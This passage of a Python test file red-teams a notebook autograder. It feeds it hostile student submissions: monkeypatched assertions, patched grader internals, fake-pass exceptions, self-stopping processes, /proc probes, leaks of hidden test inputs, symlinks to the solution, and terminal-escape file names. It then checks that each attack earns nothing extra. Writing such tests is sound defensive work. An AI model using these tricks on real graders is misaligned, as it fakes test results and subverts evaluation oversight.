                    "np.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n" + WRONG_F
                }
            ),
            CAUGHT,
            {"test_f": "failed"},
        ),  # fmt: skip
        "l2_raises_systemexit_and_keyboardinterrupt": (
            made({"f": "def f(x):\n    raise SystemExit(0)", "g": "def g(x):\n    raise KeyboardInterrupt"}),
            CAUGHT - POINTS["test_g"],
            {"test_f": "failed", "test_g": "failed"},
        ),
        "l3_exception_that_looks_like_a_pass": (
            made(
                {
                    "f": "class Passed(BaseException):\n    def __str__(self):\n        return 'passed'\n"
                    "def f(x):\n    raise Passed()"
                }
            ),
            CAUGHT,
            {"test_f": "failed"},
        ),  # fmt: skip
        "l4_recursion_past_the_stack": (
            made({"f": "import sys\nsys.setrecursionlimit(10**7)\ndef f(x, depth=0):\n    return f(x, depth + 1)"}),
            CAUGHT,
            # whichever comes first: the cell's time limit, or the recursion's end (an error, or the C stack's segfault)
            {"test_f": ("timed out", "failed", "process ended")},
        ),
        "l5_patches_the_graders_own_modules": (
            made(
                {
                    "f": "import vrlib.classroom.grader as _g, vrlib.classroom.fence as _fe\n"
                    "_g._score = lambda value, points: (points, '')\n_g._grade_test = lambda *a: None\n"
                    "_fe.plain = lambda v, depth=0: [1.0, 2.0, 3.0]\n" + WRONG_F
                }
            ),
            CAUGHT - POINTS["test_g"],  # its own g broke too: the patched plain() answers [1, 2, 3] for all
            {"test_f": "failed"},
        ),  # fmt: skip
        # --- processes
        "p8_stops_itself": (
            made({"f": "import os, signal\ndef f(x):\n    os.kill(os.getpid(), signal.SIGSTOP)"}),
            CAUGHT,
            {"test_f": "timed out"},
        ),
        "p9_closes_its_channel": (
            made({"f": "import os\ndef f(x):\n    os.closerange(3, 256)\n    return np.asarray(x, dtype=float) + 1"}),
            CAUGHT,
            {"test_f": "process ended"},
        ),
        "p10_walks_proc_into_the_host": (made({"f": attempt(proc_probe)}), CAUGHT, {"test_f": "failed"}),
        # --- the hidden tests: their inputs never reach the student
        "h1_prints_hidden_inputs": (
            made({"f": ARGS + "def f(x):\n    print('ARGS', _show(x))\n    return np.asarray(x, dtype=float) + 1"}),
            FULL,
            {"test_f": "passed"},
        ),
        "h2_error_message_carries_hidden_inputs": (
            made(
                {
                    "f": ARGS + "def f(x):\n    if np.size(x) != 3 and np.size(x) != 1:\n"
                    "        raise ValueError('ARGS ' + _show(x))\n    return np.asarray(x, dtype=float) + 1"
                }
            ),
            FULL - POINTS["test_f"],
            {"test_f": "failed"},
        ),  # fmt: skip
        "h3_keeps_hidden_inputs_for_a_later_call": (
            made(
                {
                    "f": ARGS
                    + "SEEN = []\ndef f(x):\n    SEEN.append(_show(x))\n    return np.asarray(x, dtype=float) + 1",
                    "g": "def g(x):\n    print('SEEN', SEEN)\n    if len(SEEN) > 1:\n        raise ValueError(str(SEEN))\n"
                    "    return f(x) * 2",
                }
            ),
            FULL,
            {"test_f": "passed", "test_g": "passed"},
        ),  # fmt: skip
        "h5_exit_status_carries_a_hidden_input": (
            made(
                {
                    "f": "import os\ndef f(x):\n    if np.size(x) == 2:\n        os._exit(100 + int(x[0]))\n"
                    "    return np.asarray(x, dtype=float) + 1"
                }
            ),
            CAUGHT,
            {"test_f": "process ended", "test_partial": "process ended"},
        ),  # fmt: skip
        "h4_assertion_message_tells_the_expected_value": (
            made({"f": "def f(x):" + WRONG_IF_HIDDEN}),
            FULL - POINTS["test_f"],
            {"test_f": "failed"},
        ),
    }


@pytest.fixture(scope="module")
def attacked2(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("redteam2")
    source, released = make_assignment(tmp)
    subs, book = tmp / "subs", tmp / "book"
    for honest in ("honest_a", "honest_b", "honest_c"):
        submission(released, subs / f"{honest}.ipynb")
    (tmp / "elsewhere").mkdir()
    submission(released, tmp / "elsewhere" / "00_tiny.ipynb")
    paths = {"source": source, "honest_a": subs / "honest_a.ipynb", "tmp": tmp}
    attacks = _second_round(paths)
    for name, (maker, _, _) in attacks.items():
        if maker is not None:
            maker(released, subs / f"{name}.ipynb")
    os.symlink(tmp / "elsewhere", subs / "s7_symlinked_folder_of_a_classmate")
    # a student whose name differs from a classmate's only by characters a file name cannot keep
    submission(released, subs / "honest b.ipynb", {"f": WRONG_F})
    submission(released, subs / "caf\u00e9.ipynb")
    submission(released, subs / "cafe\u0301.ipynb", {"f": WRONG_F})  # the same name, decomposed
    submission(released, subs / "new\nline.ipynb")
    submission(released, subs / "honest_c--planted.ipynb", {"f": WRONG_F})  # its feedback is not honest_c's
    solution = source.read_bytes()
    # 8 s a cell: l5's cell imports the grader, whose nbformat import alone takes about 2 s (jsonschema's IRI
    # checker builds a grammar); at 4 s it ran past the limit on 2 cores shared with other work
    results = classroom.grade_class(
        subs, book, source_dir=source.parent, jobs=2, timeout=8, time_cap=60, memory_cap="1G", feedback=True
    )
    return {
        "reports": {s.student: r for s, r in results},
        "subs": {s.student: s for s, r in results},
        "attacks": attacks,
        "book": book,
        "solution": solution,
    }


ATTACKS2 = list(_second_round({"source": "", "honest_a": "", "tmp": "x"}))


def test_at_least_20_new_attack_classes():
    assert len(ATTACKS2) >= 20 and not set(ATTACKS2) & set(ATTACKS)


@needs_bwrap
@pytest.mark.slow
@pytest.mark.parametrize("student", ATTACKS2)
def test_each_new_attack_scores_only_what_it_earned(attacked2, student):
    _, points, statuses = attacked2["attacks"][student]
    report = attacked2["reports"][student]
    assert report.points == points, report.format()
    got = {t.grade_id: t.status for t in report.tests}
    for test, status in statuses.items():
        assert got[test] in (status if isinstance(status, tuple) else (status,)), report.format()
    assert report.max_points == FULL, report.format()  # one assignment: even a refused notebook keeps its max_score


@needs_bwrap
@pytest.mark.slow
def test_refused_notebooks_say_why(attacked2):
    reports = attacked2["reports"]
    why = {
        name: " ".join(reports[name].notes) for name in ATTACKS2 if name.startswith("s") and reports[name].points == 0
    }
    assert "symbolic link" in why["s6_symlink_to_the_solution"]
    assert "symbolic link" in why["s7_symlinked_folder_of_a_classmate"]
    assert "too many JSON objects" in why["s5_object_bomb"]
    for name in ("s2_cell_that_is_a_string", "s3_metadata_that_is_a_list", "s4_json_that_is_not_a_notebook"):
        assert "not graded" in why[name] and "notebook" in why[name], why[name]
    for name in why:
        assert reports[name].seconds < 5, reports[name].format()  # refused before anything was parsed or run


@needs_bwrap
@pytest.mark.slow
def test_nothing_of_the_solution_reaches_a_student_through_a_link(attacked2):
    book = attacked2["book"]
    for name in ("s6_symlink_to_the_solution", "s7_symlinked_folder_of_a_classmate"):
        assert not (book / "feedback" / name).exists()
    for path in (book / "feedback").rglob("*.ipynb"):
        assert "np.array([5.0, -1.0])" not in path.read_text(), path  # hidden tests stay hidden


@needs_bwrap
@pytest.mark.slow
def test_names_that_collide_as_file_names_are_still_two_students(attacked2):
    reports = attacked2["reports"]
    assert reports["honest_b"].points == FULL and reports["honest b"].points == CAUGHT
    assert reports["caf\u00e9"].points == FULL and reports["cafe\u0301"].points == CAUGHT
    assert reports["new\nline"].points == FULL
    assert "new line" in (attacked2["book"] / "grades.csv").read_text()  # one row, its name on one line
    assert reports["honest_c--planted"].points == CAUGHT
    assert [p.name for p in (attacked2["book"] / "feedback" / "honest_c").iterdir()] == ["00_tiny.ipynb"]
    keys = [s.key for s in attacked2["subs"].values()]
    assert len(keys) == len(set(keys))
    with open(attacked2["book"] / "grades.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(attacked2["reports"])
    assert {r["student_id"]: float(r["score"]) for r in rows}["honest_b"] == FULL


@needs_bwrap
@pytest.mark.slow
def test_honest_students_beside_the_second_round_are_unchanged(attacked2):
    for honest in ("honest_a", "honest_b", "honest_c"):
        report = attacked2["reports"][honest]
        assert report.points == FULL and not report.notes, report.format()


@needs_bwrap
@pytest.mark.slow
def test_hidden_inputs_never_reach_the_student(attacked2):
    book = attacked2["book"]
    texts = [p.read_text() for p in [*book.rglob("*.json"), *book.rglob("*.ipynb"), *book.glob("*.csv")]]
    assert not [t for t in texts if HIDDEN_INPUT in t]
    feedback = (book / "feedback" / "h1_prints_hidden_inputs" / "00_tiny.ipynb").read_text()
    assert "ARGS 0.0, 1.0, 2.0" in feedback  # what the visible tests show is kept
    report = attacked2["reports"]["h4_assertion_message_tells_the_expected_value"]
    test_f = next(t for t in report.tests if t.grade_id == "test_f")
    assert test_f.message == "failed a hidden test", test_f.message
    report = attacked2["reports"]["h2_error_message_carries_hidden_inputs"]
    assert next(t for t in report.tests if t.grade_id == "test_f").message == "failed a hidden test"
    report = attacked2["reports"]["h5_exit_status_carries_a_hidden_input"]  # exit status 105: the input was 5.0
    assert "105" not in " ".join(t.message for t in report.tests) + " ".join(report.notes), report.format()


# --------------------------------------------------------------------------- the grader's own resources


@needs_bwrap
@pytest.mark.slow
def test_output_of_restarts_does_not_fill_the_graders_disk(tmp_path, monkeypatch):
    """Cells that each print 16 MB on both streams and end the process: the grader keeps output_cap, not 32 MB a restart."""
    from vrlib.classroom.fence import Fence

    flood = "import os\nfor fd in (1, 2):\n    os.write(fd, b'x' * 16 * 2**20)\nos._exit(1)"

    def edit(nb):
        at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "f")
        nb.cells[at:at] = [new_code_cell(flood) for _ in range(5)]

    source, released = make_assignment(tmp_path)
    sub = submission(released, tmp_path / "flood.ipynb", None, edit)
    log = tmp_path / "on_disk.txt"  # the grading runs in a child process: its measures come back in a file
    real_stop = Fence.stop

    def stop(self):
        real_stop(self)
        with open(log, "a") as f:
            f.write(f"{sum(p.stat().st_blocks * 512 for p in self.scratch.glob('.std*'))}\n")

    monkeypatch.setattr(Fence, "stop", stop)
    cap = 10_000
    report = classroom.grade(sub, source=source, timeout=20, output_cap=cap)
    assert report.points == FULL, report.format()
    on_disk = [int(n) for n in log.read_text().split()]
    assert len(on_disk) >= 5 and max(on_disk) <= 4 * (cap + 1) + 2 * 2**16, on_disk
    assert len(report.output) <= 2 * (cap + 40), len(report.output)


@needs_bwrap
@pytest.mark.slow
def test_a_callback_runs_the_reference_under_the_students_caps(tmp_path):
    """The student's g calls the teacher's reference (a KDE) with 1.4 MB of arguments that make it allocate 2 GB."""
    import subprocess
    import sys

    from classroom_tiny import tiny_notebook
    from nbformat.v4 import new_code_cell as cell

    kde_test = cell(
        "from vrlib.density import GaussianKDE as _KDE\n_your_f = f\n"
        "f = lambda x: (np.asarray(x, dtype=float) + 1) if np.ndim(x) < 2 else "
        "_KDE().fit(np.asarray(x, dtype=float)).log_density(np.asarray(x, dtype=float)[:1])\n"
        "try:\n    np.testing.assert_allclose(g([0, 1]), [2.0, 4.0])\nfinally:\n    f = _your_f",
        metadata={"nbgrader": {"grade": True, "grade_id": "test_cb", "locked": True, "points": 1,
                               "schema_version": 3, "solution": False, "task": False}},
    )  # fmt: skip
    kde_test.id = "tiny-cb"
    source, released = make_assignment(tmp_path, tiny_notebook([kde_test]))
    hog = (
        "def g(x):\n    try:\n        f(np.random.default_rng(0).normal(size=(11, 16000)))\n"
        "    except Exception as exc:\n        print('refused:', exc)\n    return f(x) * 2"
    )
    sub = submission(released, tmp_path / "hog.ipynb", {"g": hog})
    script = (
        "import json, resource, time\nfrom vrlib import classroom\nstart = time.monotonic()\n"
        f"r = classroom.grade({str(sub)!r}, source={str(source)!r}, timeout=8, memory_cap='512M')\n"
        "peak = max(resource.getrusage(w).ru_maxrss for w in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN))\n"
        "print(json.dumps([r.points, r.max_points, time.monotonic() - start, peak]))"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300)
    points, max_points, seconds, peak_kb = json.loads(done.stdout.strip().splitlines()[-1])
    assert points == max_points, done.stdout + done.stderr
    # the largest process of the grading (the grader, a callback's child or a box), in kB
    assert peak_kb < 1.2 * 2**20, f"the grading took {peak_kb / 2**20:.1f} GB for a 512M cap"


@needs_bwrap
def test_terminal_escapes_in_a_file_name_do_not_reach_the_teachers_terminal(tmp_path, capsys):
    from vrlib.cli import main

    source, released = make_assignment(tmp_path)
    submission(released, tmp_path / "subs" / "\x1b]0;owned\x07\x1b[2Jeve.ipynb")
    code = main(["classroom", "grade", str(tmp_path / "subs"), "--gradebook", str(tmp_path / "book"),
                 "--source-dir", str(source.parent), "--timeout", "20"])  # fmt: skip
    out = capsys.readouterr()
    assert code == 0
    assert "eve" in out.out and "\x1b" not in out.out + out.err and "\x07" not in out.out + out.err
